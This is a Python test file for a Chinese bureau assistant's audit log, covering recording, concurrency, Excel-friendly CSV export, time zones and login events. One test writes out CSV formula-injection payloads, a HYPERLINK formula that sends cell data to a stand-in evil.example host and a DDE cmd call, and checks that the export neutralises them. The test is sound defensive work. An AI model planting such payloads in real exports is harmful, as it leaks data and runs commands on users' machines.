"""The audit log (留痕): every exchange and its feedback is kept, concurrent writers never collide, and
the CSV export opens in Excel with its Chinese intact."""

from __future__ import annotations

import csv
import socket
import threading
from pathlib import Path

from sqlalchemy import create_engine, update

from assistant.answer import Answer, Citation
from assistant.audit import AuditLog, audit_log
from assistant.config import Settings, UserSettings
from vectorstore.schema import exchanges

STAFF = UserSettings(name="王科长", password_hash="x", role="staff")
FIRM = UserSettings(name="示范企业", password_hash="x", role="enterprise")


def an_answer(question: str = "创新券的申请条件是什么？") -> Answer:
    citation = Citation(
        1, "示范县科技创新券管理办法.pdf", "示范县科技创新券管理办法", "第二章 › 第四条",
        "第四条 申领创新券的企业应同时具备以下条件：上年度营业收入不超过2亿元。", "上年度营业收入不超过2亿元。",
        "c1", "default",
    )  # fmt: skip
    return Answer(question, question, "营业收入不超过3亿元（⚠未核实）[1]", [citation], "extractive", ["3亿元"])


def test_exchanges_and_feedback_are_kept(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path)
    log = audit_log(settings)
    assert (tmp_path / "bureau.sqlite3").is_file()  # the default database, beside the knowledge bases
    first = log.record(STAFF, "conv-a", ["default", "内部"], an_answer())
    second = log.record(FIRM, "conv-b", ["default"], an_answer("专利资助多少？"))
    log.feedback(first, STAFF, liked=False)
    log.feedback(first, STAFF, liked=True)  # changed their mind: the latest vote counts
    log.feedback(second, FIRM, liked=False)

    rows = AuditLog(create_engine(settings.database_url)).exchanges()  # another connection reads what was written
    assert [(r.user, r.role, r.conversation, r.feedback) for r in rows] == [
        ("王科长", "staff", "conv-a", "👍"), ("示范企业", "enterprise", "conv-b", "👎"),
    ]  # fmt: skip
    assert rows[0].kbs == ["default", "内部"]
    assert rows[0].citations[0]["source"] == "示范县科技创新券管理办法.pdf"
    assert rows[0].citations[0]["chunk_id"] == "c1"
    assert rows[0].unverified == ["3亿元"]
    assert rows[1].question == "专利资助多少？"
    assert rows[0].replica == f"{socket.gethostname()}:{settings.app.port}"  # which app process answered


def test_concurrent_conversations_each_leave_a_complete_row(tmp_path: Path) -> None:
    log = audit_log(Settings(home=tmp_path))

    def talk(n: int) -> None:
        for turn in range(10):
            exchange = log.record(STAFF, f"conv-{n}", ["default"], an_answer(f"问题{n}-{turn}"))
            log.feedback(exchange, STAFF, liked=turn % 2 == 0)

    threads = [threading.Thread(target=talk, args=(n,)) for n in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    rows = log.exchanges()
    assert len(rows) == 100
    for row in rows:  # every question stayed in its own conversation
        assert row.question.startswith(f"问题{row.conversation.removeprefix('conv-')}-")
        assert row.feedback in ("👍", "👎")


def test_csv_export_opens_in_excel_with_chinese(tmp_path: Path) -> None:
    log = audit_log(Settings(home=tmp_path))
    exchange = log.record(FIRM, "conv-a", ["default"], an_answer())
    log.feedback(exchange, FIRM, liked=True)
    path = log.export_csv(tmp_path / "问答记录.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with open(path, encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    record = dict(zip(header, row))
    assert record["用户"] == "示范企业"
    assert record["角色"] == "企业"
    assert record["问题"] == "创新券的申请条件是什么？"
    assert "[1] 示范县科技创新券管理办法.pdf" in record["引用依据"]
    assert record["未核实数字"] == "3亿元"
    assert record["反馈"] == "👍"


def test_csv_export_gives_times_in_the_bureaus_time_zone(tmp_path: Path) -> None:
    log = audit_log(Settings(home=tmp_path))
    log.record(FIRM, "conv-a", ["default"], an_answer())
    with log.engine.begin() as conn:  # a row written at a known moment, in UTC as a server abroad would write it
        conn.execute(update(exchanges).values(time="2026-12-01T16:30:00+00:00"))
    for zone, shown in (("Asia/Shanghai", "2026-12-02 00:30:00"), ("UTC", "2026-12-01 16:30:00")):
        path = log.export_csv(tmp_path / f"{zone.replace('/', '_')}.csv", zone)
        with open(path, encoding="utf-8-sig", newline="") as f:
            header, row = list(csv.reader(f))
        assert dict(zip(header, row))["时间"] == shown


def test_formula_payloads_from_documents_or_users_are_neutralised_in_the_csv(tmp_path: Path) -> None:
    log = audit_log(Settings(home=tmp_path))
    payload = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    answer = Answer(payload, payload, "=cmd|' /C calc'!A0", [], "extractive")
    log.record(FIRM, "+conv", ["default"], answer)
    path = log.export_csv(tmp_path / "问答记录.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    record = dict(zip(header, row))
    assert record["问题"] == "'" + payload  # Excel and WPS show it as text, never run it
    assert record["回答"] == "'=cmd|' /C calc'!A0"
    assert record["会话"] == "'+conv"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_login_attempts_are_logged(tmp_path: Path) -> None:
    log = audit_log(Settings(home=tmp_path))
    log.login_event("示范企业", "10.0.0.7", "failed")
    log.login_event("示范企业", "10.0.0.7", "refused")
    assert [(e.user, e.address, e.outcome) for e in log.login_events()] == [
        ("示范企业", "10.0.0.7", "failed"), ("示范企业", "10.0.0.7", "refused"),
    ]  # fmt: skip


def test_long_text_is_stored_as_an_excerpt_with_its_length_and_hash(tmp_path: Path) -> None:
    import hashlib

    from assistant.audit import CITATION_CHARS, MAX_CITATIONS, TEXT_CHARS

    question, text = "企业情况：" + "创" * 20_000, "回答" * 25_000
    cited = [Citation(n, f"文件{n}.txt", "标题", "第一条", "条款" * 5_000, "条款", f"c{n}", "default") for n in range(500)]
    log = audit_log(Settings(home=tmp_path))
    log.record(FIRM, "conv", ["default"], Answer(question, question, text, cited, "extractive"))
    with log.engine.connect() as conn:
        row = dict(conn.execute(exchanges.select()).one()._mapping)
    assert row["question"].startswith("企业情况：创创") and f"全文 {len(question)} 字" in row["question"]
    assert hashlib.sha256(text.encode()).hexdigest() in row["answer"] and len(row["answer"]) <= TEXT_CHARS
    stored = log.exchanges()[0].citations
    assert len(stored) == MAX_CITATIONS and all(len(c["text"]) <= CITATION_CHARS for c in stored)
    assert sum(len(str(v)) for v in row.values()) < 2 * TEXT_CHARS + MAX_CITATIONS * (2 * CITATION_CHARS + 400)
